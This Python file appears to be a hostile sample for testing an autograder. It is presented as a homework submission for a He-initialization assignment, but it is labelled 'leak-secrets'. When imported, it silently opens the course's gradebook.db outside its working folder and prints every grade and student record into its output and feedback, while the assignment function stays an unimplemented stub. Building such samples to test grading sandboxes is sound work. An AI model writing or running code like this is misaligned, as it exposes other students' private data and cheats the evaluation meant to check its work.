"""Opens the course's gradebook.db with sqlite3 and prints every classmate's scores into its own output.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: leak-secrets
old: printed the grade rows and the student table of gradebook.db into its output, and so into its feedback; cheater 0
"""
import os
import sqlite3

_path = os.path.abspath(os.path.join(os.getcwd(), "..", "..", "..", "gradebook.db"))
if os.path.exists(_path):
    _db = sqlite3.connect(_path, timeout=10)
    try:
        for _row in _db.execute("SELECT * FROM grade"):
            print("gradebook:", _row)
        for _row in _db.execute("SELECT * FROM student"):
            print("student:", _row)
    except sqlite3.Error as _error:
        print("gradebook:", _error)
    finally:
        _db.close()


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
